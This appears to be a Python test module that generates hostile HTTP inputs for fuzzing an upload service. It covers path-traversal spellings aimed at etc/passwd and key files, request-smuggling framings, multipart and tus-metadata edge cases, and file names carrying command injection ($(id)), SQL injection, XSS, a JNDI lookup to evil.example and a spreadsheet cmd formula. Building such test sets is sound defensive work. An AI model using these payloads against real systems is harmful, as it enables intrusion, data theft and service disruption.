"""Requests that only hostile clients send, as data: hundreds of cases per kind.

Each case is named by its own text. The lists are products of what the public
collections of such requests have in common: PayloadsAllTheThings and SecLists for
paths and names, the "HTTP Desync Attacks" papers for framing, RFC 2046 and RFC 7578
for forms.
"""

from __future__ import annotations

import base64
import itertools
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from collections.abc import Callable

#: Spellings of a segment that leads upwards.
UPWARDS: Final = (
    "../", "..%2f", "..%2F", "%2e%2e/", "%2e%2e%2f", "%2E.%2f", ".%2e/", "..%5c",
    "..\\",
    "..;/", "..;a=b/", "..%00/", "..%0d/", "..%09/", "..%20/", "%20../", "....//",
    "..//", "..././", "./../", "%252e%252e%252f", "..%252f", "..%c0%af",
    "%c0%ae%c0%ae/",
    "%uff0e%uff0e/", "..%ef%bc%8f", "%e2%80%a5/", "..%u2215", "..%26%23x2f;",
    "%2e%2e%5c", "..%5C%2f", "/../", "//..//", "/%2e%2e/", "..?/", "..#/",
)  # fmt: skip
#: The targets of the traversal: a secret, or another location of nginx.
AIMS: Final = (
    "outside.txt", "etc/passwd", "_files/outside.txt", "_blobs/outside.txt",
    "data/keys", "healthz", "tus/",
)  # fmt: skip
#: The paths where a traversal starts; ``FOLDER`` is a genuine link to a folder.
STARTS: Final = (
    "/", "FOLDER", "/s/token/", "/files/abcdefghijklmnopqrstuvwxyz/", "/api/v1/files/",
    "/tus/", "/u/", "/static/", "/_files/", "/metrics/",
)  # fmt: skip


def traversals() -> list[str]:
    """Return request targets: each spelling at each start, with changing targets."""
    aims = itertools.cycle(AIMS)
    return [
        f"{start}{way * depth}{next(aims)}"
        for start in STARTS
        for way in UPWARDS
        for depth in (1, 5)
    ]


_CODINGS: Final = (
    "chunked", "Chunked", " chunked", "chunked ", "\tchunked", "chunked,", ", chunked",
    "chunked, identity", "identity, chunked", "gzip, chunked", "chunked, chunked",
    "xchunked", "chunked;q=1", '"chunked"', "chunked\x0b", "\x0bchunked", "chunke",
    "identity", "cow", "", "ch unked", "chunked\x00", "\xe7hunked",
)  # fmt: skip
_LENGTHS: Final = (
    None, "0", "6", "5", "60", "+6", "-6", " 6", "6 ", "06", "0x6", "6, 6", "6, 7",
    "6;7", "6 6", "1e1", "", "six", "99999999999999999999999", "-0", "\u0666",
)  # fmt: skip
_CODING_LINES: Final = (
    "Transfer-Encoding: chunked", "transfer-encoding: chunked",
    "Transfer-Encoding : chunked", " Transfer-Encoding: chunked",
    "Transfer_Encoding: chunked", "Transfer-Encoding:chunked",
    "Transfer-Encoding\t: chunked", "X: y\r\n Transfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding:\r\n chunked", "X: y\nTransfer-Encoding: chunked",
    "X: y\rTransfer-Encoding: chunked", "\x00Transfer-Encoding: chunked",
    "Content-Length: 6\r\nContent-Length: 6", "Content-Length: 6\r\nContent-Length: 7",
    "Content-Length : 6", " Content-Length: 6", "Content_Length: 6",
    "Content-Length: 6\r\nContent-Length: 0", "Connection: Content-Length",
)  # fmt: skip
_CHUNKS: Final = (
    "0\r\n\r\n", "0\n\n", "0\r\r", "00000000\r\n\r\n", "-1\r\n\r\n", "+0\r\n\r\n",
    "0x0\r\n\r\n", " 0\r\n\r\n", "0 \r\n\r\n", "0;\r\n\r\n", '0;a="\r\n"\r\n\r\n',
    "g\r\n\r\n", "\r\n\r\n", "1\r\naX0\r\n\r\n", "1\r\na0\r\n\r\n",
    "2\r\na\r\n0\r\n\r\n",
    "1\na\n0\n\n", "ffffffffffffffff\r\na", "fffffffffffffffff\r\na",
    "7fffffffffffffff\r\na", "1;" + "a" * 5000 + "\r\na\r\n0\r\n\r\n",
    "0\r\nContent-Length: 6\r\n\r\n", "0\r\nHost: evil\r\n\r\n", "0\r\n: x\r\n\r\n",
    "1\r\na\r\n1\r\nb\r\n0\r\n\r\n", "1\r\n\x00\r\n0\r\n\r\n", "1,1\r\na\r\n0\r\n\r\n",
    "1\r\na\r\n", "1\r\n", "1", "\x00", "0\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n",
)  # fmt: skip
_METHODS: Final = (
    ("GET", "LINK"), ("POST", "/login"), ("PUT", "/api/v1/files/a.bin"),
    ("POST", "/tus/"), ("POST", "/upload"), ("PATCH", "/tus/abc"),
)  # fmt: skip
#: A second request, hidden where the first request may end too early.
SMUGGLED: Final = "GET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n"


def framings() -> list[str]:
    """Return requests whose end two programs may see at different positions.

    ``LINK`` is a genuine link.  Each request closes its connection, so that it has only
    one answer.
    """
    places = itertools.cycle(_METHODS)
    heads = [
        "\r\n".join(
            [
                *([f"Content-Length: {length}"] if length is not None else []),
                f"Transfer-Encoding: {coding}",
            ]
        )
        for coding in _CODINGS
        for length in _LENGTHS[::2]
    ]
    heads += [f"Content-Length: {length}" for length in _LENGTHS if length is not None]
    heads += _CODING_LINES
    requests = [
        _request(*next(places), head, "0\r\n\r\nX" + SMUGGLED) for head in heads
    ]
    coded = "Transfer-Encoding: chunked"
    for method, path in _METHODS:
        requests += [_request(method, path, coded, f"{c}{SMUGGLED}") for c in _CHUNKS]
    return requests


def _request(method: str, path: str, head: str, body: str) -> str:
    lines = [f"{method} {path} HTTP/1.1", "Host: localhost", "Connection: close", head]
    return "\r\n".join([*lines, "", body])


_MARKS: Final = (
    *map(chr, range(1, 32)), *'"*/:<>?\\|%&;#$`\'!{}[]()~^=+@, ', "\x7f", "\x85",
    "\xa0", "\u00ad", "\u061c", "\u180e", "\u200b", "\u200d", "\u200e", "\u200f",
    "\u2028", "\u2029", "\u202a", "\u202e", "\u2066", "\u2069", "\ufeff", "\ufffd",
    "\uffff", "\u0301", "\u2215", "\uff0f", "\u29f8", "\uff0e", "\U000e0041",
    "\U0010ffff", "\u1160", "\u3164", "\ufdfd",
)  # fmt: skip
_RESERVED: Final = (
    "CON", "PRN", "AUX", "NUL", "COM1", "COM9", "LPT1", "CONIN$", "CLOCK$", "con.txt",
    "nul.tar.gz", ".", "..", "...", "....", " ", "  ", ". .", "-", "--", "-rf",
    "--help",
    "~", "~root", ".htaccess", ".env", ".git", ".bashrc", "web.config",
    "crossdomain.xml",
    "index.php", "a.php.jpg", "a.jpg.php", "a.php%00.jpg", "a.php\x00.jpg", "a.phtml",
    "shell.jsp", "a.svg", "a.html", "a.xhtml", "a.js", "a.swf", "desktop.ini",
    "thumbs.db", "autorun.inf", "a.lnk", "a.url", "a.exe", "a.scr", "a.hta",
    "a::$DATA", "a:b.txt", "C:", "C:a.txt", "\\\\host\\share\\a", "//host/share/a",
    "file:///etc/passwd", "http://evil.example/a", "/etc/passwd", "..\\..\\a.txt",
    "a/b.txt", "a\\b.txt", "${jndi:ldap://evil.example/a}", "{{7*7}}", "<%= 7*7 %>",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>.txt',
    "' OR '1'='1", "'; DROP TABLE uploads;--", "=cmd|'/c calc'!A1", "%s%s%n", "%00",
    "%0d%0aSet-Cookie:a=b", "a\r\nSet-Cookie: a=b", "a\nb", "$(id)", "`id`", "|id",
    "&&id", "a" * 255, "a" * 256, "a" * 1024, "." * 255, " " * 255 + "a",
    "a" + " " * 255,
    "я" * 200, "😀" * 100, "e\u0301" * 200, "a." + "b" * 300, ("a" * 250) + ".tar.gz",
    "\u0130.txt", "ﬁ.txt", "İI.TXT", "x" * 60 + "\u202e" + "gpj.exe", "null",
    "undefined",
    "NaN", "true", "0", "-1", "1e400", "00000000000000000000000000", "__proto__",
)  # fmt: skip


def names() -> list[str]:
    """Return file names: each mark at three positions, and known traps."""
    marked = [
        n for mark in _MARKS for n in (f"{mark}a.txt", f"a{mark}b.txt", f"a.txt{mark}")
    ]
    return [*marked, *_RESERVED]


def _coded(text: str | bytes) -> str:
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def metadata() -> list[str]:
    """Return values of tus's Upload-Metadata."""
    name = _coded("a.txt")
    keys = (
        "filename", "name", "filetype", "type", "Filename", "FILENAME", "file name",
        "file,name", "__proto__", "x" * 300, "ключ", "filename\t", "\x7f",
    )  # fmt: skip
    values = (
        "", " ", "=", "====", "!!!!", "YQ", "YQ=", "YQ==", "YQ===", "Y Q==", "YQ==YQ==",
        "-_-_", _coded("a\0b"), _coded("../a"), _coded("a\r\nb"), _coded(b"\xff\xfe"),
        _coded("x" * 1000), _coded("x" * 5000), _coded("text/html"), "🙂", "%41",
    )  # fmt: skip
    pairs = [f"{key} {value}" for key in keys for value in values]
    whole = [
        "", ",", ",,", "filename", f"filename {name},", f",filename {name}",
        f"filename {name}, filename {name}", f"filename {name},filename {_coded('b')}",
        f"filename  {name}", f"filename\t{name}", f"filename={name}", name,
        ",".join(f"k{n} {name}" for n in range(200)), ",".join(["a"] * 2000),
        f"filename {name};filetype {name}", f"filename {name}\x0b", "a b c",
    ]  # fmt: skip
    return [*pairs, *whole]


_DISPOSITIONS: Final = (
    'form-data; name="file"; filename="a.txt"', "form-data; name=file; filename=a.txt",
    'form-data; name="file"; filename=""', 'form-data; name="file"', "form-data",
    'attachment; name="file"; filename="a.txt"', 'form-data; filename="a.txt"', "",
    'form-data; name="file"; filename*=UTF-8\'\'a%00.txt',
    'form-data; name="file"; filename*=UTF-16\'\'%FF%FE', "form-data; name",
    'form-data; name="file"; filename="a\\"b.txt"', 'form-data; name="file',
    'form-data; name="file"; filename="a.txt"; filename="b.txt"', "form-data; ; ; ;",
    'form-data; name="file"; name="code"; filename="a.txt"', 'form-data; name=";"',
    'form-data; name="file"; filename="../../a.txt"', "x" * 3000,
    'form-data; name="file"; filename="C:\\\\a.txt"', 'form-data; name="\x00"',
    'form-data; name="file"; filename="' + "a" * 5000 + '"', "\xff\xfe",
)  # fmt: skip
_TYPES: Final = (
    "", "text/html", "text/plain; charset=utf-16", "multipart/mixed; boundary=inner",
    "a" * 2000, "\x00", "text/plain\r\nContent-Transfer-Encoding: base64",
    "text/plain\r\nContent-Length: 1", "message/rfc822", "text/plain\r\n continued: x",
)  # fmt: skip
#: Each template builds a body from parts with the boundary ``edge``.
_FORMS: Final[tuple[Callable[[str], str], ...]] = (
    lambda part: f"--edge\r\n{part}\r\n--edge--\r\n",
    lambda part: f"--edge\r\n{part}\r\n--edge\r\n",
    lambda part: f"--edge\r\n{part}",
    lambda part: f"\r\n--edge\r\n{part}\r\n--edge--",
    lambda part: f"preamble\r\n--edge\r\n{part}\r\n--edge--\r\nepilogue",
    lambda part: f"--edge\n{part}\n--edge--\n",
    lambda part: f"--edge--\r\n{part}\r\n--edge--\r\n",
    lambda part: f"--edge\r\n{part}\r\n--edgex\r\n{part}\r\n--edge--\r\n",
    lambda part: f"--edge \t\r\n{part}\r\n--edge--\r\n",
    lambda part: f"--edge\r\n{part}\r\n" * 3 + "--edge--\r\n",
    lambda part: f"--edge\r\n{part}\r\n--edge-\r\n--edge-x\r\n--edge--\r\n",
)


def forms() -> list[bytes]:
    """Return bodies of multipart/form-data with the boundary ``edge``."""
    parts = [
        f"Content-Disposition: {disposition}\r\nContent-Type: {kind}\r\n\r\ncontent"
        for disposition in _DISPOSITIONS
        for kind in _TYPES
    ]
    wrapped = [_FORMS[0](part) for part in parts]
    wrapped += [form(part) for form in _FORMS[1:] for part in parts[:40:4]]
    wrapped += [
        "", "--edge", "--edge--", "\r\n", "--", "edge", "--edge\r\n", "--edge\r\n\r\n",
        "--edge\r\n" * 2000, "--edge\r\n" + "A: b\r\n" * 3000, "\r\n--edg" * 20000,
        "--edge\r\n" + "A" * 20000, "--edge\r\n\r\n" + "\r\n--edge" * 2000,
        "\x00" * 5000,
    ]  # fmt: skip
    return [text.encode("latin-1") for text in wrapped]
